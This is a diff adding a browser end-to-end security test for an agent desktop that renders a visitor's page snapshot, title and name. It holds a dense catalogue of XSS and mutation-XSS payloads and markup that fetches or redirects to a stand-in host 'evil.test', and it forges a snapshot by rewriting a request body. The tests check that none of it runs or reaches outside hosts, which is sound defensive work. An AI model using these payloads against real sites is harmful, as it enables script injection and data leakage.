@@ -1,0 +1,129 @@
+// A visitor who attacks the agent through his page, its title and his name: all of it is shown as text, none of it runs,
+// none of it makes the agent's browser ask anybody.
+import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { createServer } from 'node:net';
+import { scenario } from './support/world.mjs';
+
+const TITLE = '<img src=x onerror="top.owned=1;alert(1)"></title><script>owned=2</script>';
+const NAME = '"><svg onload=owned=3><script>owned=4</script>{@html owned=5}';
+
+/** What a page may hold to run, to fetch, to move on or to cover things. */
+const evil = (host) => `
+  <p>still here</p>
+  <script>top.owned=20</script><script src="${host}/s.js"></script>
+  <img src="${host}/a.svg" srcset="${host}/b.png 2x" onerror="top.owned=6" alt="a picture">
+  <a href="javascript:top.owned=7">a script</a> <a href="${host}/away">a link</a> <a href="${host}/top" target="_top">out</a> <a href="${host}/new" target="_blank" ping="${host}/ping">new</a>
+  <form action="${host}/form"><button>send</button></form>
+  <iframe src="${host}/frame"></iframe><iframe srcdoc="<script>top.owned=8</script>"></iframe>
+  <object data="${host}/object"></object><embed src="${host}/embed">
+  <video src="${host}/video" poster="${host}/poster" autoplay></video><audio src="${host}/audio" autoplay></audio>
+  <svg><script>top.owned=9</script><image href="${host}/image"/><use href="${host}/use#x"/><a href="javascript:top.owned=10"><text y="20">svg</text></a></svg>
+  <style>@import url("${host}/i.css"); .evil { background: url("${host}/c.png"); list-style: url("${host}/d.png"); } @font-face { font-family: x; src: url("${host}/f.woff"); } body { font-family: x; }</style>
+  <link rel="stylesheet" href="${host}/l.css"><link rel="preload" as="image" href="${host}/preload"><link rel="prefetch" href="${host}/prefetch"><link rel="icon" href="${host}/icon">
+  <p style="background:url(${host}/e.png);position:fixed;inset:auto 0 0 0;z-index:9">cover</p>
+  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.owned=11&gt;"></mglyph></table></mtext></math>
+  <noscript><p title="</noscript><img src=x onerror=top.owned=12>"></noscript>
+  <template><script>top.owned=13</script></template>
+  <body onload="top.owned=14" background="${host}/g.png"><details open ontoggle="top.owned=15"><summary>more</summary></details><input autofocus onfocus="top.owned=16" value="my secret">`;
+
+/** Only in a forged snapshot: in the visitor's own page these would take him away. */
+const worse = (host) => `
+  <meta http-equiv="refresh" content="0;url=${host}/refresh"><base href="${host}/">
+  <link rel="dns-prefetch" href="${host}"><link rel="preconnect" href="${host}"><link rel="preconnect" href="${host}" crossorigin><link rel="modulepreload" href="${host}/m.js">`;
+
+/** Whether anything of the visitor's ran, in any frame. */
+async function owned(page) {
+  const flags = await Promise.all(page.frames().map((frame) => frame.evaluate(() => window.owned).catch(() => undefined)));
+  return flags.filter((flag) => flag !== undefined);
+}
+
+/** Clicks on all that lures, as a curious agent might. */
+async function curious(desktop) {
+  for (const bait of ['a script', 'svg', 'out', 'new', 'send', 'a link']) {
+    await desktop.drawn.getByText(bait, { exact: true }).first().click({ force: true, timeout: 2_000 }).catch(() => undefined);
+  }
+}
+
+/** Hosts that the agent's browser asked beside the switch. */
+function strangers(world, desktop) {
+  const own = [new URL(world.switch.origin).host, new URL(world.switch.pageview).host];
+  // What the browser itself refused to ask is in its log as well.
+  const asked = desktop.tab.requests.filter((request) => request.failure()?.errorText !== 'csp').map((request) => new URL(request.url()));
+  return asked.filter((url) => /^https?:$/.test(url.protocol) && !own.includes(url.host)).map(String);
+}
+
+/** Refusals that the browser reports are the point; anything else is not. */
+const unexpected = (desktop) => desktop.tab.complaints.filter((text) => !/violates the following Content Security Policy|Blocked (script|form)|sandboxed|Failed to load resource: net::ERR_BLOCKED_BY_CSP/.test(text));
+
+scenario('hostile title, name and page through the widget', async (world) => {
+  const desktop = await world.desktop();
+  await desktop.ready('bob');
+  await world.carrier({ auto: false });
+  const visitor = await world.visitor();
+  await visitor.page.evaluate(({ title, html }) => {
+    document.title = title;
+    const box = document.createElement('div');
+    box.className = 'evil';
+    box.innerHTML = html;
+    box.setAttribute('onmouseover', 'top.owned=17');
+    box.append(document.createComment('--><script>top.owned=18</script>'));
+    document.querySelector('main').prepend(box);
+  }, { title: TITLE, html: evil(world.switch.shop) });
+  await visitor.callMe('01511 9999999', NAME);
+
+  await desktop.current('claimed');
+  const rendered = await desktop.message('rendered', { sent: true });
+  assert.ok(rendered.data.snapshot, 'there was no picture of the page');
+  await desktop.drawn.getByText('still here').waitFor();
+  assert.equal(await desktop.page.locator('[data-testid=current] .title').textContent(), TITLE);
+  assert.equal(await desktop.get('current-name').textContent(), NAME);
+  assert.equal(await desktop.get('contact-name').textContent(), NAME);
+  const html = await desktop.drawn.locator('html').evaluate((element) => element.outerHTML);
+  assert.doesNotMatch(html, /my secret|<script|javascript:|\son\w+\s*=|<link|<meta http-equiv="refresh/i);
+
+  await curious(desktop);
+  assert.deepEqual(await owned(desktop.page), []);
+  assert.deepEqual(strangers(world, desktop), [], 'the agent’s browser asked somebody else');
+  assert.deepEqual(unexpected(desktop), []);
+  assert.equal(desktop.tab.context.pages().length, 1, 'a window opened');
+});
+
+scenario('a forged snapshot that no widget has cleaned', async (world) => {
+  // Whoever connects here was made to by the snapshot, whether or not a request followed.
+  let connections = 0;
+  const lure = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  }).listen(0, '127.0.0.1');
+  await once(lure, 'listening');
+  world.ends(() => lure.close());
+  const host = `https://evil.test:${lure.address().port}`;
+
+  const desktop = await world.desktop();
+  await desktop.ready('bob');
+  const carrier = await world.carrier();
+  const visitor = await world.visitor();
+  await visitor.page.route('**/v1/web/reservations', (route) => {
+    if (route.request().method() !== 'POST') return route.continue();
+    const body = route.request().postDataJSON();
+    const snapshot = `<!doctype html><html><head><title>x</title>${worse(host)}</head><body>${evil(host)}</body></html>`;
+    return route.continue({ postData: JSON.stringify({ ...body, snapshot, page: { ...body.page, title: TITLE } }) });
+  });
+  const number = await visitor.number();
+  await desktop.current('claimed');
+  world.call(carrier, number);
+  await desktop.get('answer').waitFor();
+  await curious(desktop);
+  await desktop.get('answer').click();
+  await visitor.state('talking');
+
+  assert.equal(await desktop.page.locator('[data-testid=current] .title').textContent(), TITLE);
+  assert.equal(await desktop.page.getByTestId('pageframe').getAttribute('sandbox'), 'allow-scripts allow-same-origin');
+  assert.deepEqual(await owned(desktop.page), []);
+  console.log('C', connections, desktop.tab.requests.filter((r)=>r.url().includes('evil')).map((r)=>[r.url(), r.failure()?.errorText]));
+  assert.deepEqual(strangers(world, desktop), [], 'the agent’s browser asked somebody else');
+  assert.equal(connections, 0, 'the agent’s browser connected to somebody else');
+  assert.equal(desktop.tab.context.pages().length, 1, 'a window opened');
+  assert.match(desktop.page.url(), /\/desktop\//);
+});
